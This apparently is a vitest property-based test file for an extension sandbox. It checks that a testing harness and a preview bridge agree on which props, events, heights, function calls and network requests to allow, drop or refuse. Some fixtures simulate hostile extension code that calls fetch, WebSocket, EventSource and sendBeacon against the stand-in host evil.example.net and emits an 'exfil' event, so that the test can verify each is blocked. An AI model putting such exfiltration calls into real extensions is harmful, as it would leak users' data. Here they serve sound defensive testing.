// @vitest-environment jsdom
// The bridge's verdicts hold in every place that applies them: the same manifest,
// props and hostile mount run (1) through @extkit/testing's render() and (2)
// through the preview's bridge host wired to the runtime's frame side, and both
// must let through, drop, clamp and answer exactly the same things. fast-check
// draws the inputs: declared and undeclared props and events, odd heights,
// calls on the binding prop and on others.
import fc from 'fast-check';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { attachBridge } from '../packages/preview/dist/host/bridge-host.js';
import { parseCspReport } from '../packages/preview/dist/server/csp-report.js';
import { planSurfaces } from '../packages/preview/dist/session/surfaces.js';
import { connectFrame } from '../packages/runtime/dist/bridge/index.js';
import { getRegistry } from '../packages/runtime/dist/index.js';
import { cleanup, render } from '../packages/testing/dist/index.js';
import type { Manifest } from '../packages/manifest/dist/index.js';
import { deliver } from './helpers/window-message.js';

const CARD = 'acme.verdicts.card';
const PROPS = ['title', 'onSave', 'data-id'];
const EVENTS = ['clicked', 'saved'];
const manifest = {
  id: 'verdicts',
  name: 'Verdicts',
  version: '1.0.0',
  entry: 'dist/index.js',
  hostAbi: 1,
  capabilities: { props: PROPS, events: EVENTS, network: ['https://api.example.com'] },
  contributes: {
    site: { components: [CARD], features: ['acme.verdicts.bar'], functionBindings: { [CARD]: 'onSave' } },
  },
};

/** What one run lets through, as the extension and the host each saw it. */
interface Outcome {
  propsSeen: Record<string, unknown>;
  droppedProps: string[];
  accepted: Array<[string, unknown]>;
  droppedEvents: string[];
  heights: number[];
  calls: Array<{ prop: string; name: string; args: unknown[] }>;
  results: string[];
}

interface Script {
  props: Record<string, unknown>;
  events: Array<[string, unknown]>;
  heights: number[];
  calls: string[];
}

/** The hostile mount: emits, resizes and calls what the script says, recording what it saw. */
function scripted(script: Script, out: Outcome, settled: () => void) {
  return (ctx: {
    props: Record<string, unknown>;
    emit(e: string, d?: unknown): void;
    setHeight(h: number): void;
    call(p: string, ...a: unknown[]): Promise<unknown>;
  }) => {
    out.propsSeen = { ...ctx.props };
    for (const [name, detail] of script.events) ctx.emit(name, detail);
    for (const h of script.heights) ctx.setHeight(h);
    script.calls.forEach((prop, i) => {
      ctx.call(prop, i).then(
        (v) => ((out.results[i] = `ok ${JSON.stringify(v)}`), settled()),
        (e: Error) => ((out.results[i] = `refused ${e.message}`), settled()),
      );
    });
  };
}

const blank = (): Outcome => ({
  propsSeen: {},
  droppedProps: [],
  accepted: [],
  droppedEvents: [],
  heights: [],
  calls: [],
  results: [],
});
const answer = (...args: unknown[]) => ({ answered: args });

async function throughHarness(script: Script, kind: 'component' | 'feature'): Promise<Outcome> {
  const out = blank();
  const id = kind === 'component' ? CARD : 'acme.verdicts.bar';
  let pending = script.calls.length;
  getRegistry().registrations.length = 0;
  getRegistry().registrations.push({ kind, id, mount: scripted(script, out, () => --pending) });
  const view = render(id, { manifest, props: script.props, functions: { onSave: answer } });
  await vi.waitFor(() => expect(pending).toBe(0), { timeout: 3000, interval: 2 });
  out.droppedProps = view.dropped.flatMap((d) => (d.kind === 'prop' ? [d.name] : []));
  out.droppedEvents = view.dropped.flatMap((d) => (d.kind === 'event' ? [d.name] : []));
  out.accepted = view.events.map((e) => [e.name, e.detail]);
  out.heights = [...view.heights];
  out.calls = view.calls.map((c) => ({ ...c }));
  cleanup();
  return out;
}

/** An iframe whose window talks to this one as a browser's would; `restore()` removes it and puts postMessage back. */
function wiredFrame(): { frame: HTMLIFrameElement; frameWindow: Window; restore(): void } {
  const frame = document.createElement('iframe');
  document.body.append(frame);
  const frameWindow = frame.contentWindow!;
  // jsdom's postMessage carries neither event.source nor ports: deliver them as a browser does.
  Object.defineProperty(frameWindow, 'parent', { value: window, configurable: true });
  frameWindow.postMessage = ((data: unknown, _o: string, t?: unknown[]) =>
    setTimeout(() => deliver(frameWindow, data, window, t))) as Window['postMessage'];
  const own = window.postMessage;
  window.postMessage = ((data: unknown, _o: string, t?: unknown[]) =>
    setTimeout(() => deliver(window, data, frameWindow, t))) as Window['postMessage'];
  return { frame, frameWindow, restore: () => (frame.remove(), (window.postMessage = own)) };
}

async function throughPreview(script: Script, kind: 'component' | 'feature'): Promise<Outcome> {
  const out = blank();
  const surface = planSurfaces(manifest as Manifest).find((s) => s.kind === kind)!;
  let pending = script.calls.length;
  getRegistry().registrations.length = 0;
  getRegistry().registrations.push({ kind, id: surface.id, mount: scripted(script, out, () => --pending) });
  const { frame, frameWindow, restore } = wiredFrame();
  let mounted = false;
  // As the preview's stage declares a surface: the manifest's capabilities, the surface's binding prop.
  const bridge = attachBridge({
    frame,
    surface: { kind, id: surface.id },
    declared: {
      props: manifest.capabilities.props,
      events: manifest.capabilities.events,
      bindingProp: surface.bindingProp,
    },
    props: script.props,
    config: {},
    onMounted: () => (mounted = true),
    onDroppedProps: (names) => (out.droppedProps = names),
    onEvent: (event, detail, accepted) =>
      accepted ? out.accepted.push([event, detail]) : out.droppedEvents.push(event),
    onResize: (h) => out.heights.push(h),
    onCall: ({ prop, name, args }) => (out.calls.push({ prop, name, args }), answer(...args)),
  });
  connectFrame(frameWindow);
  const finite = script.heights.filter((h) => Number.isFinite(h)).length;
  await vi.waitFor(
    () =>
      expect(
        mounted &&
          pending === 0 &&
          out.accepted.length + out.droppedEvents.length === script.events.length &&
          out.heights.length === finite,
      ).toBe(true),
    { timeout: 3000, interval: 2 },
  );
  bridge.close();
  restore();
  return out;
}

const name = fc.oneof(
  fc.constantFrom(...PROPS, ...EVENTS),
  fc.constantFrom('token', 'Clicked', 'constructor', '__proto__', ''),
  fc.string({ maxLength: 6 }),
);
const script: fc.Arbitrary<Script> = fc.record({
  props: fc.dictionary(name, fc.oneof(fc.string({ maxLength: 8 }), fc.integer(), fc.boolean()), { maxKeys: 5 }),
  events: fc.array(fc.tuple(name, fc.jsonValue({ maxDepth: 2 })), { maxLength: 5 }),
  heights: fc.array(
    fc.oneof(fc.double({ min: -100, max: 1e6, noNaN: true }), fc.constantFrom(Number.NaN, Infinity, 10_000.5)),
    { maxLength: 4 },
  ),
  calls: fc.array(fc.constantFrom('onSave', 'title', 'token'), { maxLength: 3 }),
});

afterEach(() => {
  getRegistry().registrations.length = 0;
});

describe('the bridge verdicts, in the harness and in the preview with the runtime frame side', () => {
  it.each(['component', 'feature'] as const)('agree on every prop, event, height and call of a %s', async (kind) => {
    await fc.assert(
      fc.asyncProperty(script, async (s) => {
        const harness = await throughHarness(s, kind);
        const preview = await throughPreview(s, kind);
        expect(harness).toEqual(preview);
      }),
      { numRuns: 25 },
    );
  });

  it('agree on a known case, and it is the case the verdicts describe', async () => {
    const s: Script = {
      props: { title: 'T', onSave: 'saveCard', token: 's3cret' },
      events: [
        ['clicked', { n: 1 }],
        ['exfil', 'x'],
      ],
      heights: [120.4, 1e9, -5],
      calls: ['onSave', 'title'],
    };
    const harness = await throughHarness(s, 'component');
    expect(harness).toEqual(await throughPreview(s, 'component'));
    expect(harness).toEqual({
      propsSeen: { title: 'T', onSave: 'saveCard' },
      droppedProps: ['token'],
      accepted: [['clicked', { n: 1 }]],
      droppedEvents: ['exfil'],
      heights: [120, 10_000, 0],
      calls: [{ prop: 'onSave', name: 'saveCard', args: [0] }],
      results: ['ok {"answered":[0]}', 'refused "title" is not this component\'s function binding.'],
    });
  });

  it('agree on the budget: the same emits refused in the same words, the same sent, the same count dropped over the rate', async () => {
    const flood = (ctx: { emit(e: string, d?: unknown): void }) => {
      ctx.emit('clicked', { fn: () => 1 });
      ctx.emit('saved', 'x'.repeat(64 * 1024));
      ctx.emit(7 as unknown as string);
      for (let i = 0; i < 1_200; i++) ctx.emit(i % 3 ? 'clicked' : 'exfil', i);
    };
    getRegistry().registrations.length = 0;
    getRegistry().registrations.push({ kind: 'component', id: CARD, mount: flood as never });
    const view = render(CARD, { manifest });
    const harness = {
      accepted: view.events.map((e) => e.detail),
      undeclared: view.dropped.filter((d) => d.kind === 'event').length,
      refused: view.dropped.flatMap((d) => (d.kind === 'refused' ? [d.message] : [])),
      over: view.dropped.filter((d) => d.kind === 'over_budget').length,
    };
    cleanup();

    const preview = { accepted: [] as unknown[], undeclared: 0, refused: [] as string[], over: 0 };
    const { frame, frameWindow, restore } = wiredFrame();
    const errors = console.error;
    console.error = () => undefined; // the frame says each refusal in its own console too
    try {
      const bridge = attachBridge({
        frame,
        surface: { kind: 'component', id: CARD },
        declared: { props: manifest.capabilities.props, events: manifest.capabilities.events, bindingProp: 'onSave' },
        props: {},
        config: {},
        onEvent: (_event, detail, accepted) => (accepted ? preview.accepted.push(detail) : preview.undeclared++),
        onError: (message) => preview.refused.push(message),
        onDropped: (d) => (preview.over += d.emits),
      });
      connectFrame(frameWindow);
      // The count of what was dropped comes once, when the frame's one-second window ends.
      await vi.waitFor(() => expect(preview.over).toBeGreaterThan(0), { timeout: 4000, interval: 20 });
      bridge.close();
    } finally {
      console.error = errors;
      restore();
    }
    expect(harness).toEqual(preview);
    expect(harness.refused).toHaveLength(3);
    expect(harness.accepted.length + harness.undeclared).toBe(1_000 - 3);
    expect(harness.over).toBe(1_200 - 997);
  });

  it("agree on the network: what render() blocks, the preview's network log explains in the same words", async () => {
    const urls = [
      'https://evil.example.net/steal?c=1',
      'http://api.example.com/v1',
      'https://api.example.com:8443/x',
      'data:text/plain,hi',
    ];
    // The extension's requests, made by its mount (the test's own fetch goes out as in plain vitest).
    const sent: Array<Promise<Response>> = [];
    getRegistry().registrations.push({
      kind: 'component',
      id: CARD,
      mount: () => {
        for (const url of [...urls, 'https://api.example.com/v1/items']) sent.push(fetch(url));
      },
    });
    const view = render(CARD, { manifest, fetch: async () => new Response('ok') });
    for (const request of sent.slice(0, urls.length)) await expect(request).rejects.toThrow(TypeError);
    await expect(sent[urls.length]).resolves.toBeInstanceOf(Response);
    const logged = urls.map((url) =>
      parseCspReport(
        JSON.stringify({ 'csp-report': { 'effective-directive': 'connect-src', 'blocked-uri': url } }),
        'component:' + CARD,
        manifest.capabilities.network,
      )!,
    );
    expect(view.blocked.map(({ directive, origin, fix }) => ({ directive, origin, fix }))).toEqual(
      logged.map(({ directive, origin, fix }) => ({ directive, origin, fix })),
    );
    expect(view.blocked[0]!.fix).toBe(
      'Add "https://evil.example.net" to capabilities.network in manifest.json: "network": ["https://api.example.com","https://evil.example.net"]',
    );
    cleanup();
  });

  it('agree on WebSocket, EventSource and sendBeacon: each refused request is logged in the words the preview gives the URL Chromium reports', () => {
    getRegistry().registrations.push({
      kind: 'component',
      id: CARD,
      mount: () => {
        new WebSocket('https://api.example.com/live'); // Chromium connects (and reports) wss://api.example.com/live: https does not cover wss
        new WebSocket('ws://evil.example.net/s');
        new EventSource('https://evil.example.net/stream');
        navigator.sendBeacon('https://evil.example.net/collect', 'x');
        navigator.sendBeacon('https://api.example.com/collect', 'x');
      },
    });
    const view = render(CARD, { manifest, fetch: async () => new Response(null) });
    const reported = [
      'wss://api.example.com/live',
      'ws://evil.example.net/s',
      'https://evil.example.net/stream',
      'https://evil.example.net/collect',
    ];
    const logged = reported.map((url) =>
      parseCspReport(
        JSON.stringify({ 'csp-report': { 'effective-directive': 'connect-src', 'blocked-uri': url } }),
        'component:' + CARD,
        manifest.capabilities.network,
      )!,
    );
    expect(view.blocked.map(({ url, directive, origin, fix }) => ({ url, directive, origin, fix }))).toEqual(
      logged.map(({ blocked, directive, origin, fix }) => ({ url: blocked, directive, origin, fix })),
    );
    cleanup();
  });
});
